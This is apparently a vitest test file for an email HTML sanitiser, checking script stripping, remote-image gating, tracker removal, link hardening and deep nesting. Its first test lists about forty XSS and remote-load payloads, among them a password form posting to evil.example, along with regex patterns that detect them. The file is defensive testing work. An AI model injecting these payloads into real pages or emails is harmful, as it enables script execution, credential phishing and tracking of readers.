import { describe, expect, it } from 'vitest';
import { flattenDeep } from '../../../server/channels/email/html/depth.ts';
import { sanitise } from '../../../server/channels/email/html/sanitise.ts';

describe('the HTML of a letter', () => {
  for (const attack of [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="http://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<style>@import "http://evil.example/x.css"; body{background:url(http://evil.example/b)}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background:\\75rl(http://evil.example/x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="http://evil.example"><input name=p type=password><button>go</button></form>',
    '<video src="http://evil.example/v"><source src="http://evil.example/s"></video>',
    '<audio src="http://evil.example/a"></audio>',
    '<img srcset="http://evil.example/1 1x, http://evil.example/2 2x">',
    '<picture><source srcset="http://evil.example/p"><img src="cid:a"></picture>',
    '<input type="image" src="http://evil.example/i">',
    '<table background="http://evil.example/t"><tr><td>x</td></tr></table>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xml><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<div style="-moz-binding:url(http://evil.example/x)">x</div>',
    '<p style="background-image:url(&quot;http://evil.example/b&quot;)">x</p>',
  ]) {
    it(`neither runs nor fetches: ${attack.slice(0, 70)}`, () => {
      const { html } = sanitise(attack);
      expect(html).not.toMatch(
        /<(script|svg|math|iframe|object|embed|meta|base|link|style|form|input|button|video|audio|source|template)/i,
      );
      const tags = (html.match(/<[^>]*>/g) ?? []).join('\n');
      expect(tags).not.toMatch(
        /\son\w+\s*=|javascript:|vbscript:|expression\(|url\(|position:|srcset|data:text|data:image\/svg/i,
      );
      expect(tags).not.toMatch(/\s(src|href|background|action)\s*=\s*"?http:\/\/evil/i);
    });
  }

  it('asks before it loads remote pictures', () => {
    const safe = sanitise('<p>Hi <img src="https://shop.example/logo.png" width="200" alt="Shop"></p>');
    expect(safe).toEqual({
      html: '<p>Hi <img alt="Shop" width="200" data-remote-src="https://shop.example/logo.png" /></p>',
      remoteCount: 1,
      trackers: [],
    });
  });

  it('names what reports the reading and leaves it out', () => {
    const safe = sanitise(
      '<p>Hi</p><img src="https://x.list-manage.com/track/open.php?u=1" width="600"><img src="https://t.example.com/p.gif" width="1" height="1"><img src="https://h.example.com/q" style="display:none">',
    );
    expect(safe).toEqual({
      html: '<p>Hi</p>',
      remoteCount: 0,
      trackers: ['Mailchimp', 't.example.com', 'h.example.com'],
    });
  });

  it('points to attached pictures by Content-ID', () => {
    expect(sanitise('<img src="cid:part1.06090408@example.com">').html).toBe(
      '<img data-cid="part1.06090408@example.com" />',
    );
  });

  it('keeps links to where they go', () => {
    expect(sanitise('<a href="https://shop.example/a?b=1&amp;c=2" onclick="x()">the shop</a>').html).toBe(
      '<a href="https://shop.example/a?b=1&amp;c=2" title="https://shop.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">the shop</a>',
    );
    expect(sanitise('<a href="mailto:a@b.example">write</a>').html).toContain('href="mailto:a@b.example"');
  });

  it('keeps the marks of quotations and no other class or id', () => {
    expect(
      sanitise(
        '<div class="gmail_quote evil" id="x"><blockquote class="gmail_quote">Hi</blockquote></div><div id="divRplyFwdMsg" class="a">x</div>',
      ).html,
    ).toBe(
      '<div class="gmail_quote"><blockquote class="gmail_quote" type="cite">Hi</blockquote></div><div id="divRplyFwdMsg">x</div>',
    );
  });

  it('keeps how the letter looks', () => {
    expect(
      sanitise('<p style="color:#333; font-family:\'Segoe UI\',Arial; mso-line-height-rule:exactly">x</p>').html,
    ).toBe('<p style="color:#333;font-family:\'Segoe UI\',Arial">x</p>');
  });

  it('survives a hundred thousand nested elements', () => {
    expect(sanitise(flattenDeep(`${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}`)).html).toContain('deep');
  });
});
